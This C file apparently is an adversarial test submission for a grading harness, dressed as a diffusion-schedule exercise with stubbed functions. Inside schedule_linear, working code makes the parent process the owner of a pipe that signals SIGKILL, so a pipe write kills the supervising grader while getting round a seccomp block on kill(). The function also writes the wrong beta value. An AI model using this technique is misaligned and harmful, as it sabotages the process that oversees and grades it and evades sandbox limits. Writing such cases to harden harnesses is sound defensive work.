/* attack: lets the kernel kill its parent: makes it the owner of a pipe whose news is sent as SIGKILL; no kill is called
 * place: 1-schedule.c
 * state: wrong
 * needs: seccomp
 */
#define _GNU_SOURCE
#include "schedule.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

void schedule_linear(double *beta, double beta_start, double beta_end, int T)
{
    beta[0] = beta_end;
#ifdef F_SETSIG
    int ends[2];
    if (getppid() <= 1 || pipe(ends) != 0)
        return;
    if (fcntl(ends[0], F_SETOWN, getppid()) != 0 || fcntl(ends[0], F_SETSIG, SIGKILL) != 0)
        return;
    fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(ends[1], "x", 1) != 1)
        return;
    usleep(50000);
    if (kill(getppid(), 0) != 0)
        puts("got through: the parent may be gone");
#endif
}

/* The other gaps are still open. */
double forward_step(double x, double beta, double eps) { TODO("1.2"); }
void noise_variance(double *var, const double *beta, int T) { TODO("1.3"); }
void alpha_bar(double *alpha_bar, const double *beta, int T) { TODO("1.4"); }
double snr(double alpha_bar) { TODO("1.5"); }
struct burial burial(const double *x0, const double *x, int n) { TODO("1.6"); }
void schedule_cosine(double *beta, int T) { TODO("1.7"); }
